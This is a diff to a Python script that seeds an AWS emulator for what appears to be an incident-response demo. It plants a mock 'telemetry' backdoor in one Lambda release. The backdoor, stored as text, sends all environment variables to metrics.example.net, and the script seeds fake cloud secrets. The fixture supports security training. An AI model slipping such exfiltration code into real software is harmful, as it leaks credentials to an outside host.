@@ -10,6 +10,8 @@ Only ever pointed at the emulator: it creates resources.
 
 from __future__ import annotations
 
+import base64
+import hashlib
 import io
 import json
 import time
@@ -34,6 +36,14 @@ FAKE_DB_PASSWORD = "Sup3r-S3cret-Passw0rd!"
 FAKE_STAGE_TOKEN = "ghp_" + "16C7e42F292c6912E7710c838347Ae178B4a"
 SEEDED_SECRETS = (FAKE_AWS_SECRET, FAKE_STRIPE_KEY, FAKE_DB_PASSWORD, FAKE_STAGE_TOKEN)
 
+# The "backdoor" planted in orders-api release 3 (inert text: the demo never runs code).
+TELEMETRY = (
+    "import json, os, urllib.request\n\n\n"
+    "def report():\n"
+    "    body = json.dumps(dict(os.environ)).encode()\n"
+    "    urllib.request.urlopen('https://metrics.example.net/collect', data=body, timeout=2)\n"
+)
+
 LAMBDA_TRUST = {
     "Version": "2012-10-17",
     "Statement": [
@@ -53,8 +63,15 @@ class Seeded:
     endpoint: str
     functions: dict[str, str] = field(default_factory=dict)  # name -> ARN
     rest_api_id: str = ""
+    # Every package uploaded, by its CodeSha256 (base64): the demo's package mirror serves
+    # them, since the emulator's Code.Location is not reachable.
+    packages: dict[str, bytes] = field(default_factory=dict)
     http_api_id: str = ""
     regions: tuple[str, ...] = (PRIMARY, SECONDARY)
+
+
+def code_sha256(data: bytes) -> str:
+    return base64.b64encode(hashlib.sha256(data).digest()).decode()
 
 
 def _zip(files: dict[str, str]) -> bytes:
@@ -95,6 +112,11 @@ class _Seeder:
 
     # building blocks ----------------------------------------------------------------------
 
+    def remember(self, package: bytes | None) -> bytes | None:
+        if package:
+            self.result.packages[code_sha256(package)] = package
+        return package
+
     def role(
         self,
         name: str,
@@ -125,6 +147,7 @@ class _Seeder:
             "MemorySize": 256,
         }
         params.update(kwargs)
+        self.remember(params["Code"].get("ZipFile"))
         arn = self.c("lambda", region).create_function(**params)["FunctionArn"]
         self.result.functions[name] = arn
         return str(arn)
@@ -234,13 +257,17 @@ class _Seeder:
         lam = self.c("lambda")
         common = lam.publish_layer_version(
             LayerName="shopfast-common",
-            Content={"ZipFile": _zip({"python/shopfast_common.py": "VERSION = '1.4.0'\n"})},
+            Content={
+                "ZipFile": self.remember(_zip({"python/shopfast_common.py": "VERSION = '1.4.0'\n"}))
+            },
             CompatibleRuntimes=["python3.12"],
         )
         self.layer_common = common["LayerVersionArn"]
         analytics = lam.publish_layer_version(
             LayerName="analytics-sdk",
-            Content={"ZipFile": _zip({"python/analytics.py": "def track(e): pass\n"})},
+            Content={
+                "ZipFile": self.remember(_zip({"python/analytics.py": "def track(e): pass\n"}))
+            },
             CompatibleRuntimes=["python3.12"],
         )
         self.layer_analytics = analytics["LayerVersionArn"]
@@ -392,11 +419,22 @@ class _Seeder:
             TracingConfig={"Mode": "Active"},
             Tags=tags,
         )
-        for version in (2, 3):
-            lam.publish_version(FunctionName="orders-api", Description=f"release {version - 1}")
-            lam.update_function_code(
-                FunctionName="orders-api", ZipFile=handler_code("orders-api", version)
-            )
+        lam.publish_version(FunctionName="orders-api", Description="release 1")
+        lam.update_function_code(
+            FunctionName="orders-api", ZipFile=self.remember(handler_code("orders-api", 2))
+        )
+        lam.publish_version(FunctionName="orders-api", Description="release 2")
+        # Release 3 is the one a responder should look at: a "telemetry" module that ships the
+        # environment to an outside host, and a new layer (the publicly shared one).
+        lam.update_function_code(
+            FunctionName="orders-api",
+            ZipFile=self.remember(
+                handler_code("orders-api", 3, extra={"vendor/telemetry.py": TELEMETRY})
+            ),
+        )
+        lam.update_function_configuration(
+            FunctionName="orders-api", Layers=[self.layer_common, self.layer_analytics]
+        )
         lam.publish_version(FunctionName="orders-api", Description="release 3")
         lam.create_alias(FunctionName="orders-api", Name="live", FunctionVersion="3")
         # The mobile app calls the live alias through an IAM-authenticated URL.
@@ -808,9 +846,9 @@ class _Seeder:
             logGroupName="/aws/lambda/orders-api",
             logStreamName="2026/11/27/[3]abcdef",
             logEvents=[
-                {"timestamp": now - 3000, "message": "START RequestId: 1f0e Version: 3"},
-                {"timestamp": now - 2000, "message": "[ERROR] KeyError: 'customer_id'"},
-                {"timestamp": now - 1000, "message": "END RequestId: 1f0e"},
+                {"timestamp": now - 300, "message": "START RequestId: 1f0e Version: 3"},
+                {"timestamp": now - 200, "message": "[ERROR] KeyError: 'customer_id'"},
+                {"timestamp": now - 100, "message": "END RequestId: 1f0e"},
                 {
                     "timestamp": now,
                     "message": "REPORT RequestId: 1f0e Duration: 12.3 ms Billed Duration: 13 ms",
